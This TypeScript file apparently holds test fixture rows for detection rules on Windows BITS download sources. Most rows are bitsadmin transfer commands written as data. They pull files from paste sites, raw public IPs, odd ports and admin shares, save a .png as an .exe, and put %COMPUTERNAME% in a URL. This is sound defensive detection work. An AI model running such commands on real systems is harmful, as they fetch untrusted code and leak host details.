import type { Example } from '../signal.js';

/** Rows that show each signal of the family; the tests run them. No bundle carries them. */
export const sourceExamples: Readonly<Record<string, readonly Example[]>> = {
  'source-unfamiliar': [{ EventCode: '59', jobTitle: 'n', name: 'n', url: 'https://files.example.net/a', SourceName: 'Microsoft-Windows-Bits-Client' }],
  'source-unknown': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://files.example.net/a C:\\d\\a' }],
  'source-public-address': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job http://198.51.100.7/a C:\\d\\a' }],
  'source-private-address': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job http://192.168.7.9/a C:\\d\\a' }],
  'source-drop-host': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://pastebin.com/raw/abc C:\\d\\a' }],
  'source-open-hosting': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://raw.githubusercontent.com/example/repo/a C:\\d\\a' }],
  'source-abused-ending': [{ http_user_agent: 'Microsoft BITS/7.8', http_method: 'GET', url: 'http://files-example.top/a' }],
  'source-port': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://files.example.net:4444/a C:\\d\\a' }],
  'source-machine-facts': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job http://files.example.net/a?host=%COMPUTERNAME% C:\\d\\a' }],
  'source-credentials': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job http://user:x@files.example.net/a C:\\d\\a' }],
  'source-admin-share': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job \\\\srv07\\c$\\a C:\\d\\a' }],
  'source-share': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job \\\\srv07\\data\\a C:\\d\\a' }],
  'source-local-file': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /addfile job C:\\Windows\\System32\\calc.exe C:\\d\\a.exe' }],
  'source-list': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /addfileset job C:\\d\\list.txt' }],
  'source-fed': [{ ScriptBlockText: 'Import-Csv list.csv | Add-BitsFile -BitsJob $job' }],
  'source-disguised': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job https://files.example.net/a.png C:\\d\\a.exe' }],
  'source-plain-program': [{ process_name: 'bitsadmin.exe', process: 'bitsadmin /transfer job http://files.example.net/a.exe C:\\d\\a.exe' }],
};
